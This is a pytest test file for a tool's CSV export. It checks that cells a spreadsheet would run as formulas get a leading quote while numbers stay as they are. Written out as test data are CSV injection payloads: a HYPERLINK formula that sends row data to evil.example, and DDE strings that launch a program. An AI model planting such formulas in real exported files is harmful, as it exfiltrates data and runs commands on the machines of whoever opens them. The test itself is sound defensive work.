"""`tracetui sql --csv` writes other machines' text (a dataset's titles, prompts, column names) into
a file made to be opened in a spreadsheet, and a spreadsheet runs a cell that starts with `=`, `+`,
`-` or `@` as a formula: `=HYPERLINK("https://evil.example/?"&A1, "open")` sends the row away,
`=cmd|' /C calc'!A0` runs a program where DDE is on. Such text is written quoted now (a leading `'`,
OWASP's advice), numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from tracetui.cli import main

pa = pytest.importorskip("pyarrow")
pq = pytest.importorskip("pyarrow.parquet")
pytest.importorskip("duckdb")

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def forged(tmp_path):
    root = tmp_path / "ds"
    for table in ("sessions", "steps", "tool_calls", "patches"):
        folder = root / "data" / table / "machine=x" / "agent=pi" / "month=2026-01"
        folder.mkdir(parents=True)
        n = len(FORMULAS)
        rows = {"session_id": [f"s{i}" for i in range(n)], "title": FORMULAS, "steps": [-5] * n,
                "=cmd|' /C calc'!A0": ["x"] * n}  # fmt: skip
        pq.write_table(pa.table(rows), folder / "part-00000.parquet")
    return root


def test_csv_cells_a_spreadsheet_would_run_are_quoted(forged, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    capsys.readouterr()
    sql = 'SELECT title, steps, "=cmd|\' /C calc\'!A0" FROM sessions ORDER BY session_id'
    assert main(["sql", "--dataset", str(forged), sql, "--csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cells = [rows[0][0], rows[0][2], *(r[0] for r in rows[1:])]
    for cell in cells:
        assert not cell.lstrip(" ").startswith(TRIGGERS), cell
    assert all(r[1] == "-5" for r in rows[1:]), "a number is no formula: it stays as it is"
    assert rows[1][0].endswith('HYPERLINK("https://evil.example/?"&A1,"open")')  # the text itself is kept
